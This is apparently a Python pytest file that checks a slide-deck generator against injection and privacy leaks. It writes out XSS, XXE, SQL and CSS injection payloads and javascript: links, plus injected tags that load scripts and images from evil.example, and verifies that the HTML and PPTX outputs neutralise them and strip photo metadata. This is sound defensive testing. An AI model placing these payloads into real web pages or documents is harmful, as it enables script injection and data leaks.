"""No text of an outline breaks out of HTML, XML, CSS or a script, and nothing private gets into the files."""

from __future__ import annotations

import base64
import io
import re
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from functools import cache
from pathlib import Path

import pytest
from lxml import etree, html
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from playwright.sync_api import Browser
from pydantic import BaseModel

import deckgen
from deckgen.deck import Deck, lay_out, read_deck
from deckgen.errors import DeckError
from deckgen.geometry import Size
from deckgen.kinds import KINDS
from deckgen.outline.dumping import Plain, dump
from deckgen.pipeline import WRITERS, chosen_stage, compose
from tests.rendering import browser, parsed

PAYLOADS = (
    "</script><script>window.hacked=1</script>",
    "]]>",
    '"><img src=x onerror=window.hacked=1>',
    "' onmouseover='window.hacked=1",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "<!--",
    "-->",
    "</style><style>*{display:none}",
    "</title></textarea></noscript></template>",
    "&lt;b&gt; &#60;i&#62;",
    "javascript:alert(1)",
    "data:text/html,<script>window.hacked=1</script>",
    "file:///etc/passwd",
    "//evil.example",
    r"\\evil\share",
    "\u202egnp.exe\u202c",
    "'); DROP TABLE slides; --",
    "url(https://evil.example/x.png)",
    "expression(alert(1));}*{color:red",
    "&xxe;<!DOCTYPE a [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>",
    "_x000D_",
    "\ufffd\U000e0001",
    "@import 'https://evil.example/x.css';",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<svg onload=window.hacked=1>",
)
GROUPS = [" ".join(PAYLOADS[start::6]) for start in range(6)]  # a deck for each attack would take minutes
HARMLESS = "harmless words"
_T, _V = "\0", "\1"  # where the text goes: as markup that means it, and as it is


def _with(text: str, value: Plain) -> Plain:
    """A plan with a text in the places of all marks."""
    match value:
        case str():
            return value.replace(_T, re.sub(r"[\\`*_~\[\]<>&$!]", r"\\\g<0>", text)).replace(_V, text)
        case Mapping():
            return {key: _with(text, inner) for key, inner in value.items()}
        case list() | tuple():
            return [_with(text, inner) for inner in value]
    return value


_CREDIT: Plain = {"by": _T, "licence": _T, "source": _T}
_COMMON: Mapping[str, Plain] = {"title": _T, "caption": _T, "punchline": _T, "notes": f"{_V}\n{_V}", "tags": [_V]}
_SLIDES: Mapping[str, Mapping[str, Plain]] = {
    "image": {"image": "drawing.svg", "layout": "above", "alt": _T, "credit": _CREDIT},
    "images": {"images": [{"image": "photo.png", "alt": _T, "caption": _T, "credit": _T}] * 2},
    "meme": {"meme": "two-buttons", "layout": "above", "text": [_V, _V, _V], "alt": _T},
    "quote": {"quote": _T, "by": _T, "source": _T},
    "bullets": {"bullets": [_T, [_T, [_T]]]},
    "text": {"text": f"{_T}\n\n{_T}"},
    "statement": {"statement": _T},
    "code": {"code": f"{_V}\n{_V}", "language": "python"},
    "table": {"table": {"header": [_T, _T], "rows": [[_T, "1"], [_T, "2"]]}},
    "columns": {"columns": [{"title": _T, "caption": _T, "text": _T}, {"title": _T, "statement": _T}]},
}
_NOT_TEXT = {
    *("background", "layout", "steps", "hidden", "id", "seconds", "ignore", "credit", "outline", "bake", "overlay"),
    *("shade", "lang", "theme", "size", "image_folders", "meme_templates", "slide_numbers", "minutes", "timings"),
}
_PLAN: Mapping[str, Plain] = {
    **dict.fromkeys(("title", "subtitle", "event", "date", "footer", "credits"), _T),
    "author": [_T, _T],
    "notes": _V,
    "slides": [
        *({**_COMMON, **slide} for slide in _SLIDES.values()),
        {"meme": {"image": "photo.png", "top": _V, "bottom": _V}, "alt": _T, "outline": "stacked"},
        {"meme": {"image": "photo.png", "boxes": [{"text": _V, "at": [0.1, 0.1], "size": [0.5, 0.3]}]}, "bake": True},
        {"title": _T},
        _T,
    ],
    "sections": [{"title": _T, "notes": _V, "slides": [_T]}],
}


def test_the_plan_fills_every_text_of_every_kind() -> None:
    assert set(_SLIDES) == set(KINDS)
    assert names_of(Deck) == {*_PLAN, *_NOT_TEXT} & names_of(Deck)
    for name, kind in KINDS.items():
        assert names_of(kind) - _NOT_TEXT == {*_COMMON, *_SLIDES[name]} - _NOT_TEXT


def names_of(model: type[BaseModel]) -> set[str]:
    return {info.alias or name for name, info in model.model_fields.items()}


Files = Mapping[str, Path]


def _written(outline: str, pictures: Path, folder: Path) -> Files:
    """The files of an outline that stands beside the pictures."""
    deck, _ = read_deck(outline, pictures / "talk.yaml")
    stage = chosen_stage(deck)
    document = compose(deck, stage.style, lay_out(deck, stage.style))
    made = {name: folder / f"talk.{name}" for name in WRITERS}
    for name, writer in WRITERS.items():
        with made[name].open("wb+") as file:
            writer(document, file, None)
    return made


@pytest.fixture(scope="module")
def full_of(pictures: Path, tmp_path_factory: pytest.TempPathFactory) -> Callable[[str], Files]:
    """Writes the files of a deck whose every text is the one given, once."""

    @cache
    def made(text: str) -> Files:
        plan = _with(text, _PLAN)
        assert isinstance(plan, dict)
        return _written(dump(plan), pictures, tmp_path_factory.mktemp("full"))

    return made


def _tree(path: Path) -> html.HtmlElement:
    return html.parse(str(path), html.HTMLParser(encoding="utf-8", huge_tree=True)).getroot()


_RUNS = ("span", "s", "em", "strong")  # a script, an emoji, a coloured token may be one of its own


def _shape(tree: html.HtmlElement) -> tuple[Counter[str], set[tuple[str, str]]]:
    """How many elements of each name there are, and which attributes they have; lines are as many as the text needs."""
    elements = [element for element in tree.iter() if element.tag not in _RUNS and element.get("class") != "line"]
    return Counter(str(element.tag) for element in elements), {
        (str(e.tag), name) for e in elements for name in e.attrib
    }


def _said(slides: list[parsed.Slide]) -> str:
    """All that slides say in one string, without spaces and capitals: memes have their own."""
    said = [
        text
        for slide in slides
        for text in (slide.title, *(t for i in slide.items for t in i.paragraphs), *slide.notes)
    ]
    return _squeezed("\n".join(said))


def _squeezed(text: str) -> str:
    return re.sub(r"\s+", "", text).lower()


@pytest.mark.parametrize("payload", GROUPS)
def test_no_text_breaks_out_of_the_html(payload: str, full_of: Callable[[str], Files]) -> None:
    tree, plain = _tree(full_of(payload)["html"]), _tree(full_of(HARMLESS)["html"])

    assert _shape(tree) == _shape(plain)
    assert [s.text for s in tree.iter("script")] == [s.text for s in plain.iter("script")]
    assert not any(payload in (style.text or "") for style in tree.iter("style"))
    assert not [node for node in tree.iter() if not isinstance(node.tag, str)], "no comments, no instructions"


@pytest.mark.parametrize("payload", GROUPS)
def test_no_text_breaks_out_of_the_pptx(payload: str, full_of: Callable[[str], Files]) -> None:
    parts = dict(_parts(full_of(payload)["pptx"]))

    assert [name for name in parts if re.search(r"[^\w./\[\]-]", name)] == []
    for name, data in parts.items():
        if name.endswith((".xml", ".rels")):
            assert b"<!DOCTYPE" not in data
            etree.fromstring(data, etree.XMLParser(resolve_entities=False))
    assert _outside(parts) == []


@pytest.mark.parametrize("payload", GROUPS)
def test_both_files_say_every_text_as_it_was_written(payload: str, full_of: Callable[[str], Files]) -> None:
    harmless = _said(parsed.from_html(full_of(HARMLESS)["html"])).count(_squeezed(HARMLESS))
    assert harmless > 50

    for name, read in (("html", parsed.from_html), ("pptx", parsed.from_pptx)):
        assert _said(read(full_of(payload)[name])).count(_squeezed(payload)) == harmless


def _parts(pptx: Path) -> Iterator[tuple[str, bytes]]:
    with zipfile.ZipFile(pptx) as archive:
        yield from ((name, archive.read(name)) for name in archive.namelist())


def _outside(parts: Mapping[str, bytes]) -> list[str]:
    """Where the pptx refers to outside of itself."""
    rels = (etree.fromstring(data) for name, data in parts.items() if name.endswith(".rels"))
    return [str(one.get("Target")) for tree in rels for one in tree if one.get("TargetMode") == "External"]


@pytest.mark.parametrize("payload", GROUPS)
def test_the_language_of_a_deck_breaks_out_of_nothing(payload: str, pictures: Path, tmp_path: Path) -> None:
    files = _written(dump({"title": "T", "lang": payload, "slides": ["a"]}), pictures, tmp_path)

    tree = _tree(files["html"])
    assert (tree.tag, tree.get("lang"), len(list(tree.iter("script")))) == ("html", payload, 3)
    for name, data in _parts(files["pptx"]):
        if name.endswith(".xml"):
            etree.fromstring(data)


LINKS = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java&#115;cript:alert(1)"),
    *(
        "&#x6A;avascript&colon;alert(1)",
        "<java\tscript:alert(1)>",
        "\u00a0javascript:alert(1)",
        "javascript%3Aalert(1)",
    ),
    *(
        "vbscript:x",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "blob:x",
        "about:blank",
        "ftp://x/y",
    ),
    *(
        "//evil.example",
        r"\\\\evil\\share",
        "/etc/passwd",
        "../x.html",
        "x.html",
        "?a=b",
        "http:",
        "https://",
        "http:evil",
    ),
    *(
        "http://[",
        "https:///path",
        "mailto:",
        "#",
        "<#a b>",
        "view-source:https://x",
        "ms-word:ofe|u|https://x",
        "tel:1",
    ),
    *(
        'https://example.org/"onmouseover="x',
        "https://example.org/<script>",
        "https://example.org/\u202ex",
        "HTTPS://a.b",
    ),
    *(
        "https://example.org/?a=1&b=2;c={d}",
        "mailto:a@b.c?subject=<x>",
        "https://user:pass@example.org:80/#x",
        "https://[::1]/",
    ),
)


@pytest.mark.parametrize("link", LINKS)
@pytest.mark.parametrize("form", ["[here]({})", "![here]({})", "<{}>", "[a [b]({})]({})"])
def test_links_lead_to_the_web_to_mail_or_into_the_deck(link: str, form: str, pictures: Path, tmp_path: Path) -> None:
    text = form.replace("{}", link)
    slides: list[Plain] = [{"statement": text, "credit": {"by": "Ada", "source": link}}]
    try:
        files = _written(dump({"title": "T", "slides": slides}), pictures, tmp_path)
    except DeckError as error:
        assert {found.code for found in error.diagnostics} <= {"wrong-value"}  # noqa: PT017 - either answer is right
        return
    hrefs = [str(element.get("href")) for element in _tree(files["html"]).iter("a")]
    outside = _outside(dict(_parts(files["pptx"])))
    for address in (*hrefs, *outside):
        assert re.fullmatch(r"(https?://[^/?#]|mailto:.|#).*", address, re.IGNORECASE)
    for address in outside:
        assert not re.search(r"[\s\"<>\\^`{|}]", address)


@pytest.mark.browser
def test_a_deck_full_of_attacks_is_shown_without_a_word(chromium: Browser, full_of: Callable[[str], Files]) -> None:
    deck = full_of(" ".join(PAYLOADS))["html"]
    with browser.shown(chromium, deck, Size(1280, 720)) as show:
        show.tab.on("dialog", lambda dialog: show.complaints.append(f"dialog: {dialog.message}"))
        for index in range(len(show)):
            show.go(index)
        assert show.tab.evaluate("typeof window.hacked") == "undefined"
        assert show.complaints == []


@pytest.mark.browser
@pytest.mark.parametrize(
    "slipped",
    [
        "<script>window.hacked=1</script>",
        "<script src='https://evil.example/x.js'></script>",
        "<img src=x onerror='window.hacked=1'>",
        "<img src='https://evil.example/x.png'>",
        "<svg onload='window.hacked=1'></svg>",
        "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
        "<iframe src='https://evil.example/'></iframe>",
        "<link rel=stylesheet href='https://evil.example/x.css'>",
        "<style>@import 'https://evil.example/x.css'; main{background:url(https://evil.example/x.png)}</style>",
        "<object data='https://evil.example/x.swf'></object>",
        "<video src='https://evil.example/x.mp4' autoplay></video>",
        "<base href='https://evil.example/'><img src='x.png'>",
        "<a id=trap href='javascript:window.hacked=1'>x</a>",
        "<form id=trap action='https://evil.example/'></form>",
    ],
)
def test_the_policy_of_a_deck_stops_what_slips_through(
    slipped: str, chromium: Browser, full_of: Callable[[str], Files], tmp_path: Path
) -> None:
    broken = tmp_path / "broken.html"
    text = full_of(HARMLESS)["html"].read_text(encoding="utf-8")
    broken.write_text(text.replace('<div class="slides">', f'{slipped}<div class="slides">', 1), encoding="utf-8")
    with browser.shown(chromium, broken, Size(1280, 720)) as show:
        answered: list[str] = []
        show.tab.on("response", lambda response: answered.append(response.url))
        show.tab.evaluate("document.querySelector('#trap')?.[document.querySelector('a#trap') ? 'click' : 'submit']()")
        show.tab.wait_for_timeout(200)
        assert show.tab.evaluate("typeof window.hacked") == "undefined"
        assert [line for line in show.complaints if line.startswith("console:")], "the browser says what it stopped"
        assert not [url for url in answered if "evil" in url]
        assert show.tab.url.partition("#")[0] == broken.as_uri()


_SECRET = "Secret-Project-4711"  # noqa: S105  # a word to look for
_DRAWING = f"""<?xml version="1.0"?><!-- /home/ada/{_SECRET}/a.svg --><svg xmlns="http://www.w3.org/2000/svg"
 xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" width="60" height="40"
 inkscape:export-filename="/home/ada/{_SECRET}/a.png"><metadata>{_SECRET}</metadata>
 <rect width="60" height="40" fill="#c00"/></svg>"""


@pytest.fixture(scope="module")
def private(tmp_path_factory: pytest.TempPathFactory) -> Files:
    """The files of a talk in a folder with a telling name, with pictures that say where and by whom they were made."""
    folder = tmp_path_factory.mktemp("home") / _SECRET
    folder.mkdir()
    exif = Image.Exif()
    exif[0x013B] = exif[0x010F] = _SECRET  # artist, maker of the camera
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 18.0)})  # GPS
    photo = Image.new("RGB", (400, 300), "#39a")
    photo.save(folder / "photo.jpg", exif=exif, comment=_SECRET.encode())
    note = PngInfo()
    note.add_text("Author", _SECRET)
    photo.save(folder / "photo.png", pnginfo=note, exif=exif)
    photo.save(folder / "photo.gif", comment=_SECRET.encode())
    photo.save(folder / "photo.webp", exif=exif, xmp=_SECRET.encode())
    (folder / "drawing.svg").write_text(_DRAWING, encoding="utf-8")
    names = ("photo.jpg", "photo.png", "photo.gif", "photo.webp", "drawing.svg")
    outline: Mapping[str, Plain] = {"title": "T", "author": "Ada Example", "date": "2026-11-20", "slides": list(names)}
    (folder / "talk.yaml").write_text(dump(outline), encoding="utf-8")
    made = deckgen.build(folder / "talk.yaml")
    return {output.path.suffix[1:]: output.path for output in made.outputs}


def _embedded(text: str) -> Iterator[bytes]:
    """What the data addresses of an HTML file hold."""
    yield from (base64.b64decode(data) for data in re.findall(r'(?:="|\()data:[\w/+.-]+;base64,([\w+/=]+)[")]', text))


def test_no_file_tells_where_it_was_made_and_by_whom(private: Files) -> None:
    page = private["html"].read_text(encoding="utf-8")
    parts = {"html": page.encode(), **dict(_parts(private["pptx"]))}
    parts |= {f"data {number}": data for number, data in enumerate(_embedded(page))}
    assert len(parts) > 40

    traces = [_SECRET, str(private["html"].parent), str(Path.home())]
    told = [(name, trace) for name, data in parts.items() for trace in traces if trace.encode() in data]

    assert told == []


def test_pictures_keep_no_place_and_no_maker(private: Files) -> None:
    media = [data for name, data in _parts(private["pptx"]) if name.startswith("ppt/media/") and name[-3:] != "svg"]
    assert len(media) >= 4
    for data in media:
        with Image.open(io.BytesIO(data)) as picture:
            exif = picture.getexif()
            assert not exif.get_ifd(0x8825)
            assert not {0x013B, 0x010F} & set(exif)


def test_the_properties_of_a_pptx_are_those_given_and_no_others(private: Files) -> None:
    parts = dict(_parts(private["pptx"]))
    told = {
        etree.QName(child).localname: child.text
        for name in ("docProps/core.xml", "docProps/app.xml")
        for child in etree.fromstring(parts[name])
    }

    assert told == {
        "title": "T",
        "creator": "Ada Example",
        "lastModifiedBy": "Ada Example",
        "description": "2026-11-20",
        "language": "en",
        "created": "2026-11-20T00:00:00Z",
        "modified": "2026-11-20T00:00:00Z",
        "TotalTime": "0",
        "Application": "deckgen",
        "PresentationFormat": "Widescreen",
        "Slides": "6",
        "Notes": "0",
        "HiddenSlides": "0",
    }


def test_nothing_in_a_pptx_bears_the_time_of_its_making(private: Files) -> None:
    with zipfile.ZipFile(private["pptx"]) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
